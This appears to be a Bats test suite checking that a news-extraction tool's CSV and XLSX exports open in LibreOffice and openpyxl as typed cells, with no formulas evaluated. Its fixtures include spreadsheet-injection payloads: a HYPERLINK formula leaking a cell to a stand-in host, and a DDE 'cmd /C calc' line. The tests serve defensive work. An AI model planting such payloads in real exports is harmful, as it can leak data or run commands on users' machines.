#!/usr/bin/env bats
# What people see when they open our output: nf-csv's CSV and nf-xlsx's
# workbook read back by LibreOffice (headless, converting to flat ODS) and by
# openpyxl, every cell with its type (tests/sheet-dump).

load common
setup() {
	common_setup
	T=$BATS_TEST_TMPDIR
}

need_libreoffice() {
	command -v soffice >/dev/null 2>&1 ||
		skip "LibreOffice is not installed (apt-get install libreoffice-calc-nogui)"
}

need_openpyxl() {
	/usr/bin/python3 -c 'import openpyxl' 2>/dev/null ||
		skip "python3-openpyxl is not installed (apt-get install python3-openpyxl)"
}

# lo_fods FILE [INFILTER]: LibreOffice reads FILE (with the import filter
# and options INFILTER, as its Text Import dialog would set them) and writes
# FILE's name with .fods; one profile for the whole file keeps it quick.
lo_fods() {
	local args=(--headless --norestore "-env:UserInstallation=file://$BATS_FILE_TMPDIR/lo-profile")
	[ -z "${2:-}" ] || args+=("--infilter=$2")
	rm -f "${1%.*}.fods"
	soffice "${args[@]}" --convert-to fods --outdir "$(dirname "$1")" "$1" >/dev/null 2>&1
	[ -s "${1%.*}.fods" ] || fail "LibreOffice did not convert $1"
}

dump() {
	"$ROOT/tests/sheet-dump" "$1"
}

# The LibreOffice Text Import dialog with UTF-8, comma, and "Detect special
# numbers" on: the import that guesses the most.
GUESSING='Text - txt - csv (StarCalc):44,34,76,1,,1033,false,true'

hostile_records() {
	cat <<'IN'
{"doc":"p.html","article":1,"title":"=HYPERLINK(\"http://x/?leak=\"&B2,\"click\")","published":"2025-05-10","para":1,"sent":1,"role":"body","lang":"en","kind":"money","match":"$3.5 million","value":-3.5,"unit":"USD","match_start":0,"match_end":12,"text":"=1+1 and so on"}
{"doc":"p.html","article":1,"title":"+cmd|' /C calc'!A0","published":null,"para":1,"sent":2,"role":"body","lang":"zh","kind":"percent","match":"-5°C","value":30,"unit":"percent","match_start":0,"match_end":3,"text":"@SUM(1+1)*cmd|' /C calc'!A0"}
{"doc":"p.html","article":1,"title":"-2+3","published":null,"para":1,"sent":3,"role":"body","lang":"zh","kind":"count","match":"杭州","value":1470000000,"unit":"company","match_start":0,"match_end":6,"text":"\t=2+5"}
IN
}

@test "CSV: LibreOffice opens nf-csv's output with no formula in any cell, numbers still numbers" {
	need_libreoffice
	hostile_records | nf-csv >"$T/guess.csv"
	cp "$T/guess.csv" "$T/plain.csv"
	lo_fods "$T/guess.csv" "$GUESSING"
	lo_fods "$T/plain.csv"
	for f in guess plain; do
		run -0 dump "$T/$f.fods"
		refute_output --regexp $'\tf\t'
	done
	run -0 sh -c '"$1" "$2" | grep -E "^[CKU][234]	"' _ "$ROOT/tests/sheet-dump" "$T/guess.fods"
	assert_output "$(cat <<'OUT'
C2	s	'=HYPERLINK("http://x/?leak="&B2,"click")
K2	n	-3.5
U2	s	'=1+1 and so on
C3	s	'+cmd|' /C calc'!A0
K3	n	30
U3	s	'@SUM(1+1)*cmd|' /C calc'!A0
C4	s	'-2+3
K4	n	1470000000
U4	s	'\t=2+5
OUT
)"
}

@test "xlsx: LibreOffice and openpyxl read the same typed cells; nothing is guessed or run" {
	need_libreoffice
	need_openpyxl
	{
		hostile_records
		cat <<'IN'
{"doc":"p.html","article":1,"title":"T","published":"2025-05-10","kind":"date","match":"January 20","value":"2025-01-20","from":"2025-01-20","to":"2025-01-20","anchor":"2025-05-10","text":"On January 20"}
{"doc":"p.html","article":1,"title":"T","published":"2025-05-10","kind":"date","match":"2025年5月","value":"2025-05","from":"2025-05-01","to":"2025-05-31","anchor":"2025-05-10","text":"杭州，2025年5月"}
{"doc":"p.html","article":1,"title":"T","published":"2025-05-10","kind":"duration","match":"30%","value":"P2Y","from":null,"to":null,"anchor":null,"text":"x"}
IN
	} | nf-xlsx -o "$T/facts.xlsx"
	lo_fods "$T/facts.xlsx"
	dump "$T/facts.xlsx" | grep -v '^#' >"$T/openpyxl.txt"
	dump "$T/facts.fods" | grep -v '^#' >"$T/lo.txt"
	run -0 diff "$T/openpyxl.txt" "$T/lo.txt"
	run -1 grep $'\tf\t' "$T/lo.txt"
	run -0 grep -E '^(C2|K2|J2|K3|M3|N3|J4|K4)	' "$T/lo.txt"
	assert_output "$(cat <<'OUT'
C2	s	=HYPERLINK("http://x/?leak="&B2,"click")
J2	s	$3.5 million
K2	n	-3.5
K3	n	30
M3	s	percent
J4	s	杭州
K4	n	1470000000
C2	s	T
J2	s	January 20
K2	s	2025-01-20
K3	s	2025-05
M3	d	2025-05-01
N3	d	2025-05-31
J4	s	30%
K4	s	P2Y
OUT
)"
}

@test "xlsx: the fixture articles' facts.xlsx: every number a number, every date a date, every match text, Chinese intact" {
	need_libreoffice
	need_openpyxl
	nf-normalize "$FIX"/articles/*.txt | nf-segment >"$T/s.jsonl"
	nf-figures "$T/s.jsonl" >"$T/figures.jsonl"
	nf-dates "$T/s.jsonl" >"$T/dates.jsonl"
	nf-xlsx -o "$T/facts.xlsx" "$T/figures.jsonl" "$T/dates.jsonl"
	lo_fods "$T/facts.xlsx"
	dump "$T/facts.xlsx" >"$T/openpyxl.txt"
	dump "$T/facts.fods" >"$T/lo.txt"
	# each reader's cells against the records: the type and the exact value
	for reader in openpyxl lo; do
		run -0 /usr/bin/python3 - "$T/$reader.txt" "$T/figures.jsonl" "$T/dates.jsonl" <<'PY'
import json, sys
cells, sheet = {}, None
for line in open(sys.argv[1], encoding='utf-8'):
    line = line.rstrip('\n')
    if line.startswith('# '):
        sheet = line[2:].split(' ')[0]
        continue
    ref, t, v = line.split('\t', 2)
    cells[sheet, ref] = (t, v.replace('\\t', '\t').replace('\\n', '\n').replace('\\r', '\r').replace('\\\\', '\\'))

def num(x):
    x = float(x)
    return str(int(x)) if x.is_integer() and abs(x) < 1e16 else repr(x)

want = {'numbers': 0, 'dates': 0, 'matches': 0, 'han': 0}
bad = []
def check(sheet, ref, expect):
    got = cells.get((sheet, ref))
    if got != expect:
        bad.append('%s!%s: got %r, want %r' % (sheet, ref, got, expect))

for sheet, path, cols in (('figures', sys.argv[2], {'match': 'J', 'value': 'K', 'unit_text': 'N', 'per': 'O', 'published': 'D', 'text': 'U'}),
                          ('dates', sys.argv[3], {'match': 'J', 'value': 'K', 'mod': 'L', 'from': 'M', 'to': 'N', 'published': 'D', 'text': 'S'})):
    for i, line in enumerate(open(path, encoding='utf-8')):
        r = json.loads(line)
        row = i + 2
        for key, col in cols.items():
            v = r.get(key)
            if v is None:
                check(sheet, '%s%d' % (col, row), None)
            elif isinstance(v, (int, float)):
                check(sheet, '%s%d' % (col, row), ('n', num(v)))
                want['numbers'] += 1
            elif key in ('from', 'to', 'published'):
                check(sheet, '%s%d' % (col, row), ('d', v))
                want['dates'] += 1
            else:
                check(sheet, '%s%d' % (col, row), ('s', v))
                want['matches'] += key == 'match'
                want['han'] += sum('\u4e00' <= ch <= '\u9fff' for ch in v)
if bad:
    print('\n'.join(bad[:10]))
print('bad %d' % len(bad))
print(all(n > 100 for n in want.values()))
PY
		assert_output "$(printf 'bad 0\nTrue')"
	done
}

@test "CSV: the README's LibreOffice import of nf-csv --quote-text keeps text text and numbers numbers" {
	need_libreoffice
	filter=$(grep -o -- "--infilter='[^']*'" "$ROOT/README.md" | head -1)
	filter=${filter#--infilter=\'}
	filter=${filter%\'}
	[ -n "$filter" ] || fail "README has no soffice --infilter example"
	nf-csv --quote-text -f match,value,unit,text >"$T/q.csv" <<'IN'
{"match":"January 20","value":"2025-01-20","unit":null,"text":"杭州"}
{"match":"30%","value":30,"unit":"percent","text":"=1+1"}
{"match":"2025年5月","value":"2025-05","unit":null,"text":"-3.5"}
{"match":"1/2","value":0.5,"unit":"x","text":"TRUE"}
IN
	lo_fods "$T/q.csv" "$filter"
	run -0 dump "$T/q.fods"
	assert_output "$(cat <<'OUT'
# q
A1	s	match
B1	s	value
C1	s	unit
D1	s	text
A2	s	January 20
B2	s	2025-01-20
D2	s	杭州
A3	s	30%
B3	n	30
C3	s	percent
D3	s	'=1+1
A4	s	2025年5月
B4	s	2025-05
D4	s	-3.5
A5	s	1/2
B5	n	0.5
C5	s	x
D5	s	TRUE
OUT
)"
}

@test "news2csv --xlsx on the fixture articles: LibreOffice and openpyxl read facts.xlsx as the CSV files' rows, numbers numbers, dates dates, Chinese intact" {
	need_libreoffice
	need_openpyxl
	run -0 news2csv -q --xlsx -o "$T/out"
	lo_fods "$T/out/facts.xlsx"
	dump "$T/out/facts.xlsx" >"$T/openpyxl.txt"
	dump "$T/out/facts.fods" >"$T/lo.txt"
	run -0 diff <(grep -v '^#' "$T/openpyxl.txt") <(grep -v '^#' "$T/lo.txt")
	for reader in openpyxl lo; do
		run -0 "$ROOT/tests/csv-vs-sheet" "$T/$reader.txt" figures="$T/out/figures.csv" dates="$T/out/dates.csv"
		assert_line --index 2 'bad 0'
		# rows, and many of each type (the counts move with extraction)
		assert_line --index 0 --regexp '^figures: [0-9]{3,} rows, [0-9]{4,} numbers, [0-9]{2,} dates, [0-9]{4,} texts, [0-9]{4,} Han$'
		assert_line --index 1 --regexp '^dates: [0-9]{3,} rows, [0-9]{4,} numbers, [0-9]{3,} dates, [0-9]{4,} texts, [0-9]{4,} Han$'
	done
}
